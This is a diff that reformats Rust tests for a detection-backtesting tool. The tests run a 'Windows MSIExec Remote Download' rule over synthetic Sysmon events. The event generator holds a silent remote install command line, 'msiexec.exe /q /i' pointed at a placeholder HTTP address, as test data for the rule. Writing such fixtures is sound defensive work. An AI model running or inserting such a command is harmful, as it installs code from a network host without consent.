@@ -12,11 +12,8 @@ const SEED: &str = "Windows MSIExec Remote Download";
 /// One Sysmon EID 1 XmlWinEventLog line at `time` (ISO, UTC). `pid` identifies the event in
 /// results (it is a by-field of the seed); `url` decides whether the seed fires.
 fn sysmon(time: &str, pid: u32, url: bool) -> String {
-    let cmd = if url {
-        format!("msiexec.exe /q /i http://198.51.100.23/p{pid}.msi")
-    } else {
-        format!("msiexec.exe /i C:\\Temp\\p{pid}.msi /qn")
-    };
+    let cmd =
+        if url { format!("msiexec.exe /q /i http://198.51.100.23/p{pid}.msi") } else { format!("msiexec.exe /i C:\\Temp\\p{pid}.msi /qn") };
     let utc = time.trim_end_matches('Z').replace('T', " ");
     format!(
         "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{{5770385f-c22a-43e0-bf4c-06f5698ffbd9}}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='{time}'/><EventRecordID>{pid}</EventRecordID><Correlation/><Execution ProcessID='3376' ThreadID='4340'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WIN10-BT.attackrange.local</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>{utc}</Data><Data Name='ProcessGuid'>{{1b43529b-1b28-6a7f-be18-00000000{pid:04}}}</Data><Data Name='ProcessId'>{pid}</Data><Data Name='Image'>C:\\Windows\\System32\\msiexec.exe</Data><Data Name='OriginalFileName'>msiexec.exe</Data><Data Name='CommandLine'>{cmd}</Data><Data Name='CurrentDirectory'>C:\\Users\\alice\\</Data><Data Name='User'>ATTACKRANGE\\alice</Data><Data Name='IntegrityLevel'>High</Data><Data Name='Hashes'>SHA256=6E9A6F1E8D2C3B4A59687766554433221100FFEEDDCCBBAA99887766554433AA</Data><Data Name='ParentProcessGuid'>{{1b43529b-1144-6a7f-78dc-000000006300}}</Data><Data Name='ParentProcessId'>4420</Data><Data Name='ParentImage'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='ParentCommandLine'>cmd.exe /c install.cmd</Data></EventData></Event>\n"
@@ -57,19 +54,28 @@ fn hourly_seed_hits_land_at_splunk_run_times() {
         dir.path(),
         "sysmon.xml",
         &[
-            ("2026-11-20T10:15:01.1234567Z", 1001, true), // 11:00 run (09:50-10:50)
-            ("2026-11-20T10:55:00.0000000Z", 1002, true), // 12:00 run (10:50-11:50)
-            ("2026-11-20T09:50:00.0000000Z", 1003, true), // earliest is inclusive: 11:00
-            ("2026-11-20T10:50:00.0000000Z", 1004, true), // latest is exclusive: 12:00, not 11:00
-            ("2026-11-20T10:49:59.9999999Z", 1005, true), // 11:00
-            ("2026-11-21T03:20:00.0000000Z", 1006, true), // next day: 04:00 run (02:50-03:50)
+            ("2026-11-20T10:15:01.1234567Z", 1001, true),  // 11:00 run (09:50-10:50)
+            ("2026-11-20T10:55:00.0000000Z", 1002, true),  // 12:00 run (10:50-11:50)
+            ("2026-11-20T09:50:00.0000000Z", 1003, true),  // earliest is inclusive: 11:00
+            ("2026-11-20T10:50:00.0000000Z", 1004, true),  // latest is exclusive: 12:00, not 11:00
+            ("2026-11-20T10:49:59.9999999Z", 1005, true),  // 11:00
+            ("2026-11-21T03:20:00.0000000Z", 1006, true),  // next day: 04:00 run (02:50-03:50)
             ("2026-11-20T10:20:00.0000000Z", 1007, false), // near miss: no URL
-            ("2026-11-18T12:00:00.0000000Z", 1008, true), // before every window
-            ("2026-11-21T23:30:00.0000000Z", 1009, true), // its run (2026-11-22T01:00) is past --to
+            ("2026-11-18T12:00:00.0000000Z", 1008, true),  // before every window
+            ("2026-11-21T23:30:00.0000000Z", 1009, true),  // its run (2026-11-22T01:00) is past --to
         ],
     );
     let o = vigil(&[
-        "backtest", "--from", "2026-11-20T00:00:00Z", "--to", "2026-11-22T00:00:00Z", "--detection", SEED, "--format", "jsonl", &input,
+        "backtest",
+        "--from",
+        "2026-11-20T00:00:00Z",
+        "--to",
+        "2026-11-22T00:00:00Z",
+        "--detection",
+        SEED,
+        "--format",
+        "jsonl",
+        &input,
     ]);
     assert!(o.status.success(), "{}", stderr(&o));
     let f = found(&jsonl(&stdout(&o)));
@@ -92,24 +98,56 @@ fn hourly_seed_hits_land_at_splunk_run_times() {
 
     // The same in CSV and table form, stamped the same way.
     let csv = stdout(&vigil(&[
-        "backtest", "--from", "2026-11-20T11:00:00Z", "--to", "2026-11-20T12:00:00Z", "--detection", SEED, "--format", "csv", &input,
+        "backtest",
+        "--from",
+        "2026-11-20T11:00:00Z",
+        "--to",
+        "2026-11-20T12:00:00Z",
+        "--detection",
+        SEED,
+        "--format",
+        "csv",
+        &input,
     ]));
     let mut lines = csv.lines();
     assert!(lines.next().unwrap_or_default().starts_with("detection,run_time,window_earliest,window_latest,"), "{csv}");
     let rows: Vec<&str> = lines.collect();
     assert_eq!(rows.len(), 3, "{csv}");
-    assert!(rows.iter().all(|r| r.starts_with(&format!("{SEED},2026-11-20T11:00:00Z,2026-11-20T09:50:00Z,2026-11-20T10:50:00Z,"))), "{csv}");
-    let table = stdout(&vigil(&["backtest", "--from", "2026-11-20T11:00:00Z", "--to", "2026-11-20T12:00:00Z", "--detection", SEED, &input]));
-    assert!(table.contains(&format!("== {SEED} | run 2026-11-20T11:00:00Z | window 2026-11-20T09:50:00Z .. 2026-11-20T10:50:00Z (3 results) ==")), "{table}");
+    assert!(
+        rows.iter().all(|r| r.starts_with(&format!("{SEED},2026-11-20T11:00:00Z,2026-11-20T09:50:00Z,2026-11-20T10:50:00Z,"))),
+        "{csv}"
+    );
+    let table =
+        stdout(&vigil(&["backtest", "--from", "2026-11-20T11:00:00Z", "--to", "2026-11-20T12:00:00Z", "--detection", SEED, &input]));
+    assert!(
+        table.contains(&format!(
+            "== {SEED} | run 2026-11-20T11:00:00Z | window 2026-11-20T09:50:00Z .. 2026-11-20T10:50:00Z (3 results) =="
+        )),
+        "{table}"
+    );
 }
 
 /// --from is inclusive and --to exclusive for run times; relative --from/--to use --now.
 #[test]
 fn range_bounds_are_run_times() {
     let dir = tempfile::tempdir().expect("tempdir");
-    let input = write_events(dir.path(), "s.xml", &[("2026-11-20T10:15:01.0000000Z", 1001, true), ("2026-11-20T10:55:00.0000000Z", 1002, true)]);
+    let input =
+        write_events(dir.path(), "s.xml", &[("2026-11-20T10:15:01.0000000Z", 1001, true), ("2026-11-20T10:55:00.0000000Z", 1002, true)]);
     let run = |from: &str, to: &str| {
-        let o = vigil(&["backtest", "--from", from, "--to", to, "--now", "2026-11-20T12:30:00Z", "--detection", SEED, "--format", "jsonl", &input]);
+        let o = vigil(&[
+            "backtest",
+            "--from",
+            from,
+            "--to",
+            to,
+            "--now",
+            "2026-11-20T12:30:00Z",
+            "--detection",
+            SEED,
+            "--format",
+            "jsonl",
+            &input,
+        ]);
         assert!(o.status.success(), "{}", stderr(&o));
         found(&jsonl(&stdout(&o))).into_iter().map(|(pid, h)| format!("{pid}@{}", h[0][1])).collect::<Vec<_>>()
     };
@@ -156,7 +194,16 @@ deployment:
     );
     let content = content.display().to_string();
     let o = vigil(&[
-        "backtest", "--content", &content, "--from", "2026-11-20T10:00:00Z", "--to", "2026-11-20T12:00:00Z", "--format", "jsonl", &input,
+        "backtest",
+        "--content",
+        &content,
+        "--from",
+        "2026-11-20T10:00:00Z",
+        "--to",
+        "2026-11-20T12:00:00Z",
+        "--format",
+        "jsonl",
+        &input,
     ]);
     assert!(o.status.success(), "{}", stderr(&o));
     let det = "Half Hourly MSIExec URL";
@@ -175,7 +222,18 @@ deployment:
 
     // Enabling the seed runs both schedules in the same single pass.
     let o = vigil(&[
-        "backtest", "--content", &content, "--enable", SEED, "--from", "2026-11-20T10:00:00Z", "--to", "2026-11-20T12:00:00Z", "--format", "jsonl", &input,
+        "backtest",
+        "--content",
+        &content,
+        "--enable",
+        SEED,
+        "--from",
+        "2026-11-20T10:00:00Z",
+        "--to",
+        "2026-11-20T12:00:00Z",
+        "--format",
+        "jsonl",
+        &input,
     ]);
     assert!(o.status.success(), "{}", stderr(&o));
     let f = found(&jsonl(&stdout(&o)));
@@ -213,7 +271,16 @@ fn late_events_are_reported_as_missed() {
     std::fs::write(&path, lines.join("\n") + "\n").expect("write");
     let input = path.display().to_string();
     let o = vigil(&[
-        "backtest", "--from", "2026-11-20T10:00:00Z", "--to", "2026-11-20T13:00:00Z", "--detection", SEED, "--format", "jsonl", &input,
+        "backtest",
+        "--from",
+        "2026-11-20T10:00:00Z",
+        "--to",
+        "2026-11-20T13:00:00Z",
+        "--detection",
+        SEED,
+        "--format",
+        "jsonl",
+        &input,
     ]);
     assert!(o.status.success(), "{}", stderr(&o));
     let records = jsonl(&stdout(&o));
@@ -229,12 +296,16 @@ fn late_events_are_reported_as_missed() {
     assert_eq!(missed[0]["window_run_time"], "2026-11-20T11:00:00Z");
     let err = stderr(&o);
     assert!(err.contains("1 event(s) arrived after every run whose window held them"), "{err}");
-    assert!(err.contains("event 2026-11-20T10:40:00Z arrived 2026-11-20T11:05:00Z (5m00s late for the run at 2026-11-20T11:00:00Z)"), "{err}");
+    assert!(
+        err.contains("event 2026-11-20T10:40:00Z arrived 2026-11-20T11:05:00Z (5m00s late for the run at 2026-11-20T11:00:00Z)"),
+        "{err}"
+    );
 
     // --arrival-field names another field; without it the data has no arrival time.
     let lines = [json_event("2026-11-20T10:40:00Z", 3002, "ingest", "2026-11-20T11:05:00Z")];
     std::fs::write(&path, lines.join("\n") + "\n").expect("write");
-    let args = ["backtest", "--from", "2026-11-20T10:00:00Z", "--to", "2026-11-20T13:00:00Z", "--detection", SEED, "--format", "jsonl", &input];
+    let args =
+        ["backtest", "--from", "2026-11-20T10:00:00Z", "--to", "2026-11-20T13:00:00Z", "--detection", SEED, "--format", "jsonl", &input];
     let plain = jsonl(&stdout(&vigil(&args)));
     assert_eq!(plain.len(), 1);
     assert!(plain[0].get("kind").is_none());
@@ -262,12 +333,14 @@ fn hunt_and_search_restricted_to_a_time_range() {
     let pids = |args: &[&str]| {
         let o = vigil(args);
         assert!(o.status.success(), "{}", stderr(&o));
-        let mut p: Vec<String> = jsonl(&stdout(&o)).iter().map(|r| r["result"]["process_id"].as_str().unwrap_or_default().to_string()).collect();
+        let mut p: Vec<String> =
+            jsonl(&stdout(&o)).iter().map(|r| r["result"]["process_id"].as_str().unwrap_or_default().to_string()).collect();
         p.sort();
         (p, stderr(&o))
     };
     // The seed's window for the 11:00 run, relative to --now.
-    let (p, err) = pids(&["hunt", "--format", "jsonl", "--earliest", "-70m@m", "--latest", "-10m@m", "--now", "2026-11-20T11:00:00Z", &input]);
+    let (p, err) =
+        pids(&["hunt", "--format", "jsonl", "--earliest", "-70m@m", "--latest", "-10m@m", "--now", "2026-11-20T11:00:00Z", &input]);
     assert_eq!(p, ["4002", "4003"]);
     assert!(err.contains("3 events outside it"), "{err}");
     // Absolute bounds: earliest inclusive, latest exclusive; either may be left open.
@@ -278,8 +351,15 @@ fn hunt_and_search_restricted_to_a_time_range() {
     let (p, _) = pids(&["hunt", "--format", "jsonl", "--earliest", "@d", "--now", "2026-11-21T12:00:00Z", &input]);
     assert_eq!(p, ["4005"]);
     let o = vigil(&[
-        "search", "--format", "jsonl", "--earliest", "1795168200", "--latest", "2026-11-21T00:00:00Z",
-        "| tstats count from datamodel=Endpoint.Processes by Processes.process_id", &input,
+        "search",
+        "--format",
+        "jsonl",
+        "--earliest",
+        "1795168200",
+        "--latest",
+        "2026-11-21T00:00:00Z",
+        "| tstats count from datamodel=Endpoint.Processes by Processes.process_id",
+        &input,
     ]);
     assert!(o.status.success(), "{}", stderr(&o));
     let rows = jsonl(&stdout(&o));
@@ -308,8 +388,17 @@ fn alerts_per_run_carry_the_run_and_window() {
     let dir = tempfile::tempdir().expect("tempdir");
     let input = write_events(dir.path(), "sysmon.xml", &[("2026-11-20T10:15:01.1234567Z", 1001, true)]);
     let o = vigil(&[
-        "backtest", "--from", "2026-11-20T09:00:00Z", "--to", "2026-11-20T13:00:00Z", "--detection", SEED,
-        "--alerts", "--format", "jsonl", &input,
+        "backtest",
+        "--from",
+        "2026-11-20T09:00:00Z",
+        "--to",
+        "2026-11-20T13:00:00Z",
+        "--detection",
+        SEED,
+        "--alerts",
+        "--format",
+        "jsonl",
+        &input,
     ]);
     assert!(o.status.success(), "{}", stderr(&o));
     let records = jsonl(&stdout(&o));
